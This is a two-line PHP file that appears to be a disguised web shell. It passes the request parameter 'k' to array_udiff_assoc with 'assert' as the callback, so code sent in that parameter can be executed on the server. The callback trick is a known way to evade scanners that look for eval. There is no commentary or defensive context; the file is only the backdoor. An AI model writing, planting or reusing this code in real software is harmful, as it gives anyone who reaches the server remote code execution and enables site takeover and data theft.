<?php
array_udiff_assoc(array($_REQUEST['k']), array(1), "assert");
